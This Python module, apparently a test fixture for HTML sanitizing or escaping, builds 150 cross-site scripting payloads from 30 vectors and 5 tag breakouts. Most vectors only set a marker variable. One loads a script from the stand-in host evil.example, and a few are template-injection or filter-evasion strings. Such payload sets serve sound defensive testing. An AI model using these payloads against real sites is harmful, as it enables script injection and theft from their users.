"""150 ways to smuggle a script into a page: vectors × places where the words may come to stand."""

from __future__ import annotations

# Each would set `window.executed` or call alert if it ran.
VECTORS = (
    "<script>window.executed=1</script>",
    "<ScRiPt>window.executed=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.executed=1>",
    "<img/src=x/onerror=window.executed=1>",
    "<svg onload=window.executed=1>",
    "<svg><script>window.executed=1</script></svg>",
    "<svg><animate onbegin=window.executed=1 attributeName=x dur=1s>",
    "<body onload=window.executed=1>",
    "<iframe srcdoc='<script>parent.executed=1</script>'></iframe>",
    "<iframe src=javascript:parent.executed=1></iframe>",
    "<a href=javascript:window.executed=1>押してください</a>",
    "<a href='java&#10;script:window.executed=1'>押す</a>",
    "<input autofocus onfocus=window.executed=1>",
    "<details open ontoggle=window.executed=1>",
    "<video><source onerror=window.executed=1></video>",
    "<audio src=x onerror=window.executed=1>",
    "<object data=javascript:window.executed=1>",
    "<embed src=javascript:window.executed=1>",
    "<form action=javascript:window.executed=1><button>送る</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:window.executed=1'>",
    "<math><mi xlink:href=javascript:window.executed=1>x</mi></math>",
    "<style>@import 'javascript:window.executed=1';</style>",
    "<div style='background:url(javascript:window.executed=1)'>",
    "<marquee onstart=window.executed=1>x</marquee>",
    "&lt;script&gt;window.executed=1&lt;/script&gt;",
    "{{ constructor.constructor('window.executed=1')() }}",
    "${window.executed=1}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "＜script＞window.executed=1＜/script＞",
)
# What would have to be closed first.
BREAKOUTS = ("", '">', "'>", "</textarea>", "</title></style></option></select>")

PAYLOADS = tuple(breakout + vector for breakout in BREAKOUTS for vector in VECTORS)
